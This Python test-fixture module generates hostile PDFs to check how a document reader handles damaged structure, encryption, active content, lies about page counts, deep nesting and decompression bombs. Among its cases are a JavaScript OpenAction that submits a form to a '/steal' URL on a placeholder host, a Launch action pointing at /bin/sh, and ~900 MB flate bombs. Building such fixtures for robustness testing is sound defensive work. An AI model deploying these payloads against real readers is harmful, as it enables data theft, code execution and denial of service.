"""Hostile PDFs: damaged structure, every encryption, active content, lies, nesting and bombs."""
from __future__ import annotations

import io
import zlib
from pathlib import Path

from pypdf import PdfReader, PdfWriter

from examples import docgen
from examples.malformed import _deflate_zeros
from tests.hostile.case import Folder

BOMB_BYTES = 900 << 20       # a content stream that inflates to ~900 MB


def _text_stream(marker: str) -> bytes:
    return f"BT /F1 14 Tf 72 720 Td ({marker}) Tj ET".encode("latin-1")


def raw_pdf(objects: list[bytes], *, xref: str = "good", pages_ref: int = 2) -> bytes:
    """A PDF from numbered objects (1 is the catalogue); `xref` good, zeros (wrong offsets),
    garbage (startxref points nowhere) or none."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    if xref != "none":
        out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        for offset in offsets:
            out += b"%010d 00000 n \n" % (0 if xref == "zeros" else offset)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, 987654321 if xref == "garbage" else start)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"", flate: bool = False) -> bytes:
    if flate:
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(content: bytes, *, count: int = 1, media: bytes = b"[0 0 595 842]", flate: bool = False,
             catalog_extra: bytes = b"", extra_objects: tuple[bytes, ...] = (), xref: str = "good",
             resources: bytes = b"/Font << /F1 4 0 R >>") -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + media + b" /Resources << " + resources
        + b" >> /Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(content, flate=flate),
        *extra_objects,
    ]
    return raw_pdf(objects, xref=xref)


def _zlib_zeros(size: int) -> bytes:
    """A zlib stream of `size` zero bytes, made in about a second (see _deflate_zeros)."""
    packed, _ = _deflate_zeros(size)
    adler, block = 1, bytes(1 << 20)
    for _ in range(size // len(block)):
        adler = zlib.adler32(block, adler)
    adler = zlib.adler32(bytes(size % len(block)), adler)
    return b"\x78\xda" + packed + adler.to_bytes(4, "big")


def _image_page(width: int, height: int) -> bytes:
    """A page holding one grey image of width x height pixels (white: zeros decoded inverted)."""
    pixels = _zlib_zeros(width * height)
    image = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray "
             b"/BitsPerComponent 8 /Decode [1 0] /Filter /FlateDecode /Length %d >>\nstream\n" % (width, height, len(pixels))
             + pixels + b"\nendstream")
    return one_page(b"q 595 0 0 842 0 0 cm /Im1 Do Q", resources=b"/XObject << /Im1 6 0 R >>",
                    extra_objects=(image,))


def _encrypted(source: Path, algorithm: str, user: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(source))
    writer.encrypt(user_password=user, owner_password="owner-secret", algorithm=algorithm)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def add_pdfs(folder: Folder, scratch: Path) -> None:
    title, body = "关于开展文明交通志愿服务活动的通知", "各单位：为推进文明城市创建，定于2025年开展文明交通志愿服务活动。"
    source = docgen.write_pdf(scratch / "base.pdf", title, [body + "（标记加密）"] * 2)
    data = source.read_bytes()
    add = folder.add
    add("pdf_truncated_30", "PDF/截断三成.pdf", "failed", "cut at 30%: no page can be found", data[: len(data) * 3 // 10])
    add("pdf_truncated_tail", "PDF/缺少结尾.pdf", "ok", "only the trailer and xref are cut: rebuilt from the objects",
        data[:-40], marker="标记加密")
    for xref in ("zeros", "garbage", "none"):
        add(f"pdf_xref_{xref}", f"PDF/交叉引用表_{xref}.pdf", "ok",
            f"xref table {xref}: readers rebuild it by scanning the objects",
            one_page(_text_stream(f"HOSTILE xref {xref} text layer"), xref=xref), marker=f"xref {xref}")
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        add(f"pdf_{algorithm}_open", f"PDF/仅限编辑_{algorithm}.pdf", "ok",
            f"{algorithm} with an empty user password (permissions only): opens and is read",
            _encrypted(source, algorithm, ""), marker="标记加密")
        add(f"pdf_{algorithm}_password", f"PDF/有打开密码_{algorithm}.pdf", "failed",
            f"{algorithm} with a user password: failed, saying a password is needed", _encrypted(source, algorithm, "1234"),
            note="密码")
    script = b" /OpenAction << /S /JavaScript /JS (app.alert('x'); this.submitForm('http://127.0.0.1:9/steal');) >>"
    add("pdf_javascript", "PDF/带脚本.pdf", "ok", "JavaScript run on opening: never run, the text is read",
        one_page(_text_stream("HOSTILE javascript open action"), catalog_extra=script), marker="javascript open")
    launch = b" /OpenAction << /S /Launch /F (/bin/sh) >>"
    add("pdf_launch_action", "PDF/启动程序.pdf", "ok", "an OpenAction that launches a program: ignored",
        one_page(_text_stream("HOSTILE launch action text"), catalog_extra=launch), marker="launch action")
    add("pdf_lying_count", "PDF/页数说谎.pdf", "ok", "/Count says 100000 pages, one exists",
        one_page(_text_stream("HOSTILE lying page count"), count=100000), marker="lying page count")
    add("pdf_no_pages", "PDF/没有页面.pdf", "failed", "a page tree with no page",
        raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    add("pdf_page_loop", "PDF/页面树循环.pdf", "failed", "a page tree whose kid is its own parent",
        raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"]))
    deep = b"[" * 20000 + b"]" * 20000
    add("pdf_deep_content", "PDF/内容深层嵌套.pdf", "ok", "20,000 nested arrays inside the page's content",
        one_page(deep + b" " + _text_stream("HOSTILE deep content nesting")), marker="deep content nesting")
    nested = b"<< /A " * 5000 + b"1" + b" >>" * 5000
    add("pdf_deep_objects", "PDF/对象深层嵌套.pdf", "ok", "5,000 nested dictionaries in the catalogue",
        one_page(_text_stream("HOSTILE deep object nesting"), catalog_extra=b" /Deep " + nested),
        marker="deep object nesting")
    add("pdf_flate_bomb", "PDF/解压炸弹.pdf", "failed", "the page's content inflates to ~900 MB: refused, never rendered",
        one_page(_zlib_zeros(BOMB_BYTES), flate=True), note="超过上限")
    unused = _stream(_zlib_zeros(BOMB_BYTES), flate=True)
    add("pdf_unused_bomb", "PDF/未用的解压炸弹.pdf", "ok", "a ~900 MB stream no page uses: never inflated",
        one_page(_text_stream("HOSTILE unused bomb beside text"), extra_objects=(unused,)), marker="unused bomb")
    add("pdf_huge_page_text", "PDF/超大页面.pdf", "ok", "a 200 x 200 inch page with text",
        one_page(_text_stream("HOSTILE huge page with text"), media=b"[0 0 14400 14400]"), marker="huge page")
    add("pdf_absurd_page_blank", "PDF/荒谬页面尺寸.pdf", "needs_ocr",
        "a page claiming 10 million points a side and no text: rendered scaled down for OCR, not at 300 dpi",
        one_page(b"", media=b"[0 0 10000000 10000000]"))
    add("pdf_image_20000", "PDF/两万像素图片页.pdf", "needs_ocr", "an image-only page of 20,000 x 20,000 pixels",
        _image_page(20000, 20000))
    add("pdf_junk_before_header", "PDF/文件头前有杂字节.pdf", "ok", "300 junk bytes before %PDF- (mail gateways add them)",
        b"\x00junk" * 60 + one_page(_text_stream("HOSTILE junk before header")), marker="junk before header")
    add("pdf_not_a_number", "PDF/长度字段错误.pdf", "ok", "a stream /Length that is not a number",
        one_page(_text_stream("HOSTILE stream length wrong")).replace(
            b"/Length %d" % len(_text_stream("HOSTILE stream length wrong")), b"/Length (x)"),
        marker="stream length wrong")
